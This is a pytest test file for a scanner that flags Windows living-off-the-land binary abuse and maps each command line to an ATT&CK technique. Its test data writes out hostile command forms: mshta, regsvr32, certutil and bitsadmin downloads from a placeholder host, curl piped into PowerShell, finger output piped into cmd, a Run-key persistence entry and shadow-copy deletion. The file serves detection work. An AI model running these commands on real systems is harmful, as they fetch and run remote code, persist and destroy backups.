"""What programs of Windows are put to use for, by their command lines. The forms are those the LOLBAS project lists."""

from __future__ import annotations

import pytest

from emoscan.budget import Budget, Limits
from emoscan.evaluate.cmd.run import evaluate
from emoscan.model import Child, Fact

A = "http://files.example.test/a"


def run(text, *names):
    items = []
    evaluate(text, Budget(Limits()), items.append, names)
    return items


def values(items, kind):
    return [item.value for item in items if isinstance(item, Fact) and item.kind == kind]


@pytest.mark.parametrize(
    ("line", "program", "target", "attack"),
    [
        (f"mshta {A}.hta", "mshta", f"{A}.hta", "T1218.005"),
        (f"MSHTA.EXE {A}", "mshta", A, "T1218.005"),
        (rf"C:\Windows\SysWOW64\..\System32\mshta.exe {A}", "mshta", A, "T1218.005"),
        (f"regsvr32 /s /n /u /i:{A}.sct scrobj.dll", "regsvr32", f"{A}.sct", "T1218.010"),
        (r"regsvr32 ..\x.ocx", "regsvr32", r"..\x.ocx", "T1218.010"),
        (r"rundll32 C:\ProgramData\x.dll,Control_RunDLL", "rundll32", r"C:\ProgramData\x.dll", "T1218.011"),
        (r'rundll32.exe "C:\ProgramData\a b.dll",#1', "rundll32", r"C:\ProgramData\a b.dll", "T1218.011"),
        (f"certutil -urlcache -split -f {A} x.exe", "certutil", A, "T1105"),
        ("certutil -decode a.txt b.exe", "certutil", "b.exe", "T1140"),
        (f"bitsadmin /transfer n /download /priority high {A} C:\\x.exe", "bitsadmin", A, "T1197"),
        (f"curl -sLo x.dll {A}", "curl", A, "T1105"),
        (f"curl.exe {A} --output x.dll", "curl", A, "T1105"),
        (f"msiexec /q /i {A}.msi", "msiexec", f"{A}.msi", "T1218.007"),
        (f'wmic os get /format:"{A}.xsl"', "wmic", f"{A}.xsl", "T1220"),
        ('wmic process call create "calc.exe"', "wmic", "calc.exe", "T1047"),
        ("schtasks /create /tn a /tr calc.exe /sc minute", "schtasks", "calc.exe", "T1053.005"),
        ('forfiles /p c:\\windows /m notepad.exe /c "cmd /c 0x63alc.exe"', "forfiles", "cmd /c calc.exe", "T1202"),
        ("pcalua -a calc.exe", "pcalua", "calc.exe", "T1202"),
        ('ssh -o ProxyCommand="calc.exe" a@b', "ssh", "calc.exe", "T1202"),
        ("scp -S calc.exe a b:c", "scp", "calc.exe", "T1202"),
        (f"cscript C:\\Windows\\System32\\pubprn.vbs 127.0.0.1 script:{A}", "pubprn", A, "T1216.001"),
        ("tftp -i 192.0.2.4 GET a.exe b.exe", "tftp", "tftp://192.0.2.4/a.exe", "T1105"),
        ("conhost calc.exe", "conhost", "calc.exe", "T1202"),
        (f"cmstp /ni /s {A}.inf", "cmstp", f"{A}.inf", "T1218.003"),
        ("odbcconf /a {REGSVR C:\\x.dll}", "odbcconf", r"C:\x.dll", "T1218.008"),
        (f"hh {A}.chm", "hh", f"{A}.chm", "T1218.001"),
        (r"control C:\x.cpl", "control", r"C:\x.cpl", "T1218.002"),
        (r"installutil /logfile= /U C:\x.dll", "installutil", r"C:\x.dll", "T1218.004"),
        (r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe C:\x.xml", "msbuild", r"C:\x.xml", "T1127.001"),
        ("rundll32 shell32.dll,ShellExec_RunDLL calc.exe", "rundll32", "calc.exe", "T1218.011"),
        ("vssadmin delete shadows /all", "vssadmin", "vssadmin delete shadows /all", "T1490"),
    ],
)
def test_programs_put_to_use(line, program, target, attack):
    used = [(f.kind, f.value, f.detail["attack"]) for f in run(line) if isinstance(f, Fact) and f.kind.startswith("lolbin.")]
    assert (f"lolbin.{program}", target, attack) in used
    if target.startswith("http"):
        assert values(run(line), "effect.download") == [target]


@pytest.mark.parametrize(
    "line",
    [
        "rundll32 shell32.dll,Control_RunDLL desk.cpl",
        "certutil -hashfile a.iso SHA256",
        "wmic os get caption",
        "msiexec /x {0-0}",
        "schtasks /query",
        "sc query",
        "net use",
    ],
)
def test_ordinary_use_is_none(line):
    assert [
        f.kind
        for f in run(line)
        if isinstance(f, Fact) and f.kind.startswith(("lolbin.", "effect.download", "effect.load", "effect.schedule"))
    ] == []


def test_script_text_on_the_command_line():
    items = run('mshta vbscript:CreateObject("WScript.Shell").Run("calc",0)(window.close)')
    assert [(i.kind, i.data) for i in items if isinstance(i, Child)] == [
        ("script.hta", b'<script language="vbscript">CreateObject("WScript.Shell").Run("calc",0)(window.close)</script>')
    ]


def test_a_copy_under_another_name():
    items = run("copy %windir%\\system32\\mshta.exe %public%\\in.com\r\n%public%\\in.com http://files.example.test/a", "a.bat")
    assert values(items, "lolbin.renamed") == [r"mshta as C:\Users\Public\in.com"]
    assert values(items, "effect.download") == ["http://files.example.test/a"]


def test_what_a_server_sends_is_piped_into_powershell():
    items = run(f"curl -s {A} | powershell -")
    assert values(items, "effect.eval") == [f"<Unknown: content of {A}>"]
    assert [i for i in items if isinstance(i, Child) and i.kind == "script.powershell"] == []


def test_a_file_is_decoded():
    items = run(
        "echo TVqQAAMAAAAEAAAA>a.txt\r\ncertutil -decode a.txt b.dat\r\necho 4d5a90 00>c.txt\r\ncertutil -decodehex c.txt d.dat", "a.bat"
    )
    made = {i.label.rpartition("\\")[2]: i.data for i in items if isinstance(i, Child) and i.label}
    assert made["b.dat"] == b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00"
    assert made["d.dat"] == b"MZ\x90\x00"


def test_a_registry_value_that_windows_starts():
    items = run(r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d "mshta http://files.example.test/a" /f')
    assert values(items, "effect.registry") == [r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\upd"]
    assert [i.data for i in items if isinstance(i, Child) and i.kind == "script.cmd"] == [b"mshta http://files.example.test/a"]


@pytest.mark.parametrize(
    ("code", "setting"),
    [
        ('VBScript:CreateObject("WScript.Shell").Run("powershell iex $env:xm",0)(window.close)', 'CreateObject("WScript.Shell").Environment("PROCESS")("xm")="iwr ""http://a"""'),
        ("javascript:new ActiveXObject('WScript.Shell').Run('powershell iex $env:xm');close()", 'new ActiveXObject("WScript.Shell").Environment("PROCESS").Item("xm")="iwr \\"http://a\\""'),
    ],
)  # fmt: skip
def test_a_page_has_the_environment_of_the_line_that_starts_it(code, setting):
    items = run(f'cmd /c "set xm=iwr "http://a"&&mshta {code}"')
    assert setting in next(i.data.decode() for i in items if isinstance(i, Child) and i.kind == "script.hta")


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("finger a@files.example.test | cmd", "<Unknown: output of finger a@files.example.test>"),
        ("for /f \"skip=20 delims=\" %i in ('finger a@files.example.test') do call %i", "<Unknown: output of finger a@files.example.test>"),
        ("finger a@files.example.test | findstr /v login | more +2 | cmd", "<Unknown: output of finger a@files.example.test>"),
        ("for /f \"tokens=2 delims==\" %a in ('nslookup -q^=txt files.example.test ^| find \"text\"') do %~a", "<Unknown: output of nslookup files.example.test>"),
        ('rundll32 advpack.dll,RegisterOCX "cmd /c net user"', "net user"),
        ('ssh -o ProxyCommand="cmd /c net user" a@b', "net user"),
    ],
)  # fmt: skip
def test_what_a_server_answers_is_run(line, command):
    assert command in values(run(line), "effect.run")


def test_click_once_is_fetched():
    assert values(run(f"rundll32 dfshim.dll,ShOpenVerbApplication {A}"), "effect.download") == [A]


def test_a_folder_of_another_computer():
    assert values(run(r"pushd \\files.example.test\a"), "effect.open") == [r"\\files.example.test\a"]


def test_the_exit_code_as_a_letter():
    found = run("@echo off\ncmd /c exit 65\nnet %=ExitCodeAscii% %=ExitCode%", "a.bat")
    assert "net A 00000041" in values(found, "effect.run")
